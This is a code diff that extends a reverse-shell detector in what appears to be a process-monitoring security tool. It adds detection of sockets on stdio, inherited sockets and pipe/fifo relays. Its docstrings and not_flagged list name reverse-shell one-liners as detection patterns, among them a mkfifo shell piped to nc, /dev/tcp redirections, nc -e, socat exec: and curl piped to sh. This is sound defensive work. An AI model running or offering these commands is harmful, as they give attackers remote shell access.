@@ -12,8 +12,9 @@ import re
 from collections import Counter, deque
 from collections.abc import Iterable
 
-from collector.events import ConnectEvent, Event, ExecEvent, SyscallEvent
+from collector.events import ConnectEvent, Event, ExecEvent, OpenEvent, SyscallEvent
 from detectors.base import Context, Detector, DetectorSpec, Finding, KernelHalf, register
+from detectors.catalog import stdio
 from detectors.catalog.common import in_any, outcome, parse_ip
 
 INET = ("AF_INET", "AF_INET6")
@@ -187,24 +188,37 @@ def _base(s: str) -> str:
 
 @register
 class ReverseShell(Detector):
-    """A socket dup'ed onto fd 0, 1 or 2 (dup2/dup3 `newfd`, dup/fcntl F_DUPFD's return,
-    with `args.socket` true; with `ignore_unix_sockets`, not when the socket is a unix one,
-    `args.unix_socket`: Node gives its children socketpair stdio); an exec of a shell
-    (`shells`) whose arguments redirect to or from `/dev/tcp/` or `/dev/udp/` (`grep
-    /dev/tcp/` is not flagged), or pipe `sh -i`
-    into netcat/telnet/openssl (the mkfifo shell); an interpreter (`interpreters`) with
-    `-c`/`-e`/`-r` code that names a socket (`socket_markers`) and a shell or process
-    spawn (`shell_markers`), case-insensitively; netcat with `-e`/`-c` (`ncat --exec`,
-    `--sh-exec`); socat with an `exec:` or `system:` address. Exec attempts that failed
-    with ENOENT (a shell's PATH search) are skipped. A shell whose stdio is a socket it
-    inherited (no dup in the session) is not visible without the fd table at exec."""
+    """A shell's stdio on a network connection, however it got there:
+    - an inet socket placed on fd 0, 1 or 2: dup'ed there (dup/dup2/dup3/fcntl F_DUPFD,
+      `args.socket`), or made there by socket()/accept()/accept4() on a closed fd 0-2;
+    - any program exec'd with an inet socket on fd 0-2 (the kernel reads the fd table at
+      exec: `stdio` of the exec event), so also a socket inherited from a parent that set
+      it up outside the session's view (python's `Popen(..., stdin=sock)`);
+    - a shell (`shells`) or interpreter (`interpreters`) exec'd with a unix socket on its
+      stdio whose peer (the kernel's sk_peer_pid) is not a process of the session;
+    - a relay: a shell or interpreter whose stdin is a pipe or fifo written by a process
+      that holds a network connection (connect, accept, or a socket on its own stdio) AND
+      whose stdout/stderr is a pipe or fifo read by such a process (`mkfifo f; sh -i < f
+      2>&1 | nc HOST PORT > f`, socat with a fifo, `nc ... | sh | nc ...`), whichever of
+      the exec and the connect comes first; the relay is any program, and its ends are
+      its stdio at exec or fifos it opens by path;
+    - the argv patterns: a shell redirecting to or from `/dev/tcp/` or `/dev/udp/` (`grep
+      /dev/tcp/` is not flagged), `sh -i` piped into netcat/telnet/openssl, an
+      interpreter with `-c`/`-e`/`-r` code that names a socket (`socket_markers`) and a
+      shell or process spawn (`shell_markers`), netcat `-e`/`-c` (`ncat --exec`,
+      `--sh-exec`), socat with an `exec:` or `system:` address.
+    Deliberately not flagged (`not_flagged`): `curl ... | sh`, socketpair stdio, ssh,
+    `nc -l` servers. Not seen: a relay whose pipes are not its stdio (a program that
+    spawns a shell on pipes it holds at other fds and copies them to a socket), and
+    unix-socket relays' peers (only stdio sockets carry the peer pid)."""
 
     spec = DetectorSpec(
         id="reverse_shell",
-        kinds=frozenset({"syscall", "exec"}),
+        kinds=frozenset({"syscall", "exec", "connect", "fork", "open"}),
         title="Reverse Shell",
-        description="a socket dup'ed onto fd 0-2, /dev/tcp redirections, interpreter "
-                    "socket+shell one-liners, nc -e or socat exec:",
+        description="an inet socket on fd 0-2 (dup, socket, accept, inherited), a shell "
+                    "exec'd on a socket or relayed to one through pipes or fifos, "
+                    "/dev/tcp redirections, nc -e or socat exec:",
         severity="critical",
         action="kill",
         mitre=("T1059.004", "T1059.006", "T1071"),
@@ -222,15 +236,90 @@ class ReverseShell(Detector):
             # children socketpair stdio); a network socket always is
             "ignore_unix_sockets": True,
         },
-        # an inet socket dup'ed onto fd 0-2 (unix sockets are never killed in the kernel)
+        # an inet socket placed on fd 0-2 by dup, socket or accept, or found there at
+        # exec (unix sockets are never killed in the kernel)
         kernel=KernelHalf(reason="AW_WHY_REVSHELL", enable="AW_EN_REVSHELL"),
+        not_flagged=(
+            "`curl URL | sh`: the socket only feeds the shell's input; a reverse shell "
+            "also carries its output back (and `sh | curl -T -` carries output only)",
+            "a unix socket dup'ed onto stdio (with `ignore_unix_sockets`): Node and "
+            "Python give children socketpair stdio whose peer is in the session",
+            "unix-socket stdio whose peer is a session process, or that the session was "
+            "started with: an agent's Node process gives the sandbox socketpair stdio",
+            "ssh and git over ssh, and `nc -l` servers: a socket, but no shell on it",
+            "exec attempts that failed with ENOENT: a shell's PATH search",
+            "(not seen) a relay holding the shell's pipes at fds other than its own "
+            "stdio: only fds 0-2 are read at exec",
+        ),
     )
 
     def check(self, ctx: Context, ev: Event) -> Iterable[Finding]:
+        st = ctx.state
+        if isinstance(ev, OpenEvent):  # the most frequent kind: fifos only
+            if ev.file_type == "fifo" and stdio.fifo_opened(st, ev):
+                yield from self._relays(ctx, ev)
+            return
+        stdio.note_pids(st, ev, ctx.session.root_pid if ctx.session else None)
         if isinstance(ev, SyscallEvent):
             yield from self._dup(ev, ctx.params["ignore_unix_sockets"])
+            yield from self._placed(ev)
+            if stdio.holder_seen(st, ev):
+                yield from self._relays(ctx, ev)
+        elif isinstance(ev, ConnectEvent):
+            if stdio.holder_seen(st, ev):
+                yield from self._relays(ctx, ev)
         elif isinstance(ev, ExecEvent) and ev.error != "ENOENT":
             yield from self._exec(ctx, ev)
+            if ev.ret == 0 and ev.stdio:
+                yield from self._stdio(ctx, ev)
+
+    @staticmethod
+    def _is_shell(ctx: Context, ev: ExecEvent) -> bool:
+        names = {_base(ev.filename), _base(ev.argv[0]) if ev.argv else ""} - {""}
+        return bool(names & set(ctx.params["shells"])) or any(
+            fnmatch.fnmatchcase(n, g) for n in names for g in ctx.params["interpreters"])
+
+    @staticmethod
+    def _placed(ev: SyscallEvent) -> Iterable[Finding]:
+        """socket(), accept() or accept4() returning fd 0, 1 or 2 for an inet socket"""
+        if ev.syscall not in ("socket", "accept", "accept4") or not 0 <= ev.ret <= 2:
+            return
+        family = ev.args.get("family", ev.family)
+        if family in INET:
+            yield Finding(key=f"placed:{ev.ret}", fields={
+                "how": f"{family} socket placed on fd {ev.ret} by {ev.syscall}()",
+                "syscall": ev.syscall, "fd": ev.ret, "comm": ev.comm, **outcome(ev)})
+
+    def _stdio(self, ctx: Context, ev: ExecEvent) -> Iterable[Finding]:
+        """The fd table at exec: inet sockets on 0-2 for anyone; unix sockets with an
+        outside peer for shells and interpreters; then the relays this exec completes."""
+        st = ctx.state
+        shell = self._is_shell(ctx, ev)
+        stdio.exec_seen(st, ev, shell)
+        if ev.setup:
+            return
+        for e in ev.stdio or ():
+            if e.get("type") != "socket":
+                continue
+            unix_out = shell and stdio.outside_unix(st, e)
+            if e.get("family") in INET or unix_out:
+                what = stdio.socket_what(st, e)
+                yield Finding(key=f"stdio:{ev.pid}:{_base(ev.filename)}", fields={
+                    "how": f"{_base(ev.filename)} exec'd with fd {e.get('fd')} on an {what}",
+                    "filename": ev.filename, "argv": ev.argv, "fd": e.get("fd"),
+                    "comm": ev.comm, **outcome(ev)})
+                break
+        yield from self._relays(ctx, ev)
+
+    @staticmethod
+    def _relays(ctx: Context, ev: Event) -> Iterable[Finding]:
+        for r in stdio.relays(ctx.state):
+            yield Finding(key=f"relay:{r['shell_pid']}", fields={
+                "how": f"{_base(r['filename'])} (pid {r['shell_pid']}) relayed through "
+                       f"pipes/fifos to pid {r['feeder']}'s {r['socket']}"
+                       + (f" and pid {r['drain']}" if r['drain'] != r['feeder'] else ""),
+                "filename": r["filename"], "argv": r["argv"], "shell_pid": r["shell_pid"],
+                "relay_pids": sorted({r["feeder"], r["drain"]}), "comm": ev.comm})
 
     @staticmethod
     def _dup(ev: SyscallEvent, ignore_unix: bool) -> Iterable[Finding]:
